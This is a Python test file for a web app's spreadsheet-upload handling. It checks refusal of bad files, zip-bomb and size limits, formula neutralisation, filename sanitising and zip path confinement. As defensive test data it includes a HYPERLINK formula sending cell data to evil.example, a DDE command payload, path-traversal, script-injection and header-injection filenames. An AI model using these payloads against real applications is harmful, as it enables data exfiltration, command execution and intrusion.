"""Uploads: a workbook is read by a process with limits, what is none is refused in words, nothing gets out."""

import re
from contextlib import closing
from http.client import HTTPConnection
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from leaflets.jobs.uploaded import open_upload
from leaflets.store.months import Upload
from tests.web.month.books import CSV_FILES, archive, bomb, book, long_book, with_part
from tests.web.month.running import LIMIT_S, Site, Visitor

REFUSED = {
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(100), "is not a workbook"),
    "words": (b"area,name\nharlow,Harlow\n", "is not a workbook"),
    "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), "old workbook"),
    "half of a workbook": (book("harlow")[:3000], "damaged"),
    "a workbook with macros": (with_part("xl/vbaProject.bin", b"Sub Auto_Open()"), "macros"),
    "a workbook in which a bomb lies": (bomb(), "unpacks to more than"),
    "an archive of something else": (archive({"virus.exe": b"MZ"}), "neither a workbook nor an archive"),
    "a workbook that is none inside": (archive({"xl/workbook.xml": b"<!DOCTYPE x>", "a.csv": b""}), "cannot be read"),
}


@pytest.fixture(scope="module")
def editor(desk: Site) -> Visitor:
    return desk.visitor("editor")


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_workbook_is_refused_in_words(editor: Visitor, what: str) -> None:
    content, words = REFUSED[what]
    page = editor.upload("september.xlsx", content)
    assert page.status_code == 200
    assert "The file was not taken" in page.text
    assert words in page.text
    assert "Traceback" not in page.text


def test_nothing_an_empty_file_and_too_much_are_refused_at_once(editor: Visitor, desk: Site) -> None:
    assert "You have not chosen a file" in editor.send("/desk/uploads", at="/desk").text
    assert "The file is empty" in editor.upload("a.xlsx", b"").text
    with closing(HTTPConnection(urlsplit(desk.address).netloc, timeout=LIMIT_S)) as asking:
        asking.putrequest("POST", "/desk/uploads")
        asking.putheader("Content-Length", "200000000")
        asking.endheaders()
        with asking.getresponse() as answer:
            assert answer.status == 413  # before anything of it has been sent
    assert list((desk.settings.home / "uploads").glob(".*")) == []


def test_formulas_are_shown_as_what_they_are_and_leave_as_text(editor: Visitor) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1,"click")'
    page = editor.upload("formulas.xlsx", book("harlow", D3=evil, E3="@SUM(1+1)*cmd|' /C calc'!A0"))
    assert "to mend" in page.text
    assert "evil.example" not in page.text  # a spreadsheet that has not worked it out has saved no result
    address = str(page.url)
    (sheet,) = re.findall(rf'href="({page.url.path}/sheets/\d+)"[^>]*>Activity', page.text)
    assert "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0" in editor.page(sheet).text
    marked = load_workbook(BytesIO(editor.page(f"{address}/marked.xlsx").content))
    told = [cell for row in marked["Problems"].iter_rows() for cell in row if cell.data_type == "f"]
    assert told == []


def test_thousands_of_rows_are_paged(editor: Visitor) -> None:
    page = editor.upload("long.xlsx", long_book(3_000))
    (sheet,) = re.findall(rf'href="({page.url.path}/sheets/\d+)"[^>]*>Activity', page.text)
    last = editor.page(f"{sheet}?page=61")
    assert "Page 61 of 61" in last.text
    assert "Patrol number 2999" in last.text
    assert "Patrol number 2900" not in last.text
    assert len(page.content) < 100_000
    assert len(last.content) < 100_000


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("../../etc/passwd.xlsx", "passwd.xlsx"),
        ("C:\\Users\\me\\september.xlsx", "september.xlsx"),
        ("<script>alert(1)</script>.xlsx", "script.xlsx"),
        ("a\r\nSet-Cookie: x=1.xlsx", "Set-Cookie- x-1.xlsx"),
        ("=cmd|x.xlsx", "cmd-x.xlsx"),
        (".xlsx", "xlsx"),
    ],
)
def test_names_lead_nowhere_and_are_shown_as_text(editor: Visitor, desk: Site, told: str, shown: str) -> None:
    page = editor.upload(told, book("harlow", D3=f"Patrols, number {len(told)} {told[2:3].isalpha()}"))
    assert page.status_code == 200
    assert shown in page.text
    assert "<script>alert" not in page.text
    answer = editor.page(f"{page.url}/marked.xlsx")
    assert "set-cookie" not in answer.headers
    assert "\n" not in answer.headers["content-disposition"]
    names = {path.name for path in (desk.settings.home / "uploads").iterdir()}
    assert all(re.fullmatch("[0-9a-f]{64}", name) for name in names)


def test_an_archive_of_csv_files_is_read_and_reaches_no_other_folder(editor: Visitor, tmp_path: Path) -> None:
    files = {f"september/{name}": content for name, content in CSV_FILES.items()}
    page = editor.upload("csv.zip", archive({**files, "september/photos/a.jpg": b"x", "september/run.exe": b"MZ"}))
    assert "2 to know" not in page.text
    assert "run.exe" in page.text
    evil = {"../areas.csv": b"x", "/etc/cron.csv": b"x", "photos/../../x.jpg": b"x", "a/b/c.csv": b"x", **CSV_FILES}
    file = tmp_path / "evil.zip"
    file.write_bytes(archive(evil))
    opened = open_upload(file, "evil.zip", tmp_path / "laid" / "out")
    assert sorted(path.name for path in opened.data.rglob("*")) == sorted(CSV_FILES)
    assert len(opened.passed_over) == 4
    assert sorted(path.name for path in tmp_path.iterdir()) == ["evil.zip", "laid"]


def test_the_same_file_is_kept_once_and_checked_again(editor: Visitor, desk: Site) -> None:
    content = book("tendring")
    first, second = editor.upload("one.xlsx", content), editor.upload("two.xlsx", content)
    assert first.url == second.url
    assert "one.xlsx" in second.text
    with desk.store.session() as session:
        same = select(func.count()).select_from(Upload).where(Upload.id == first.url.path.rpartition("/")[2])
        assert session.scalar(same) == 1
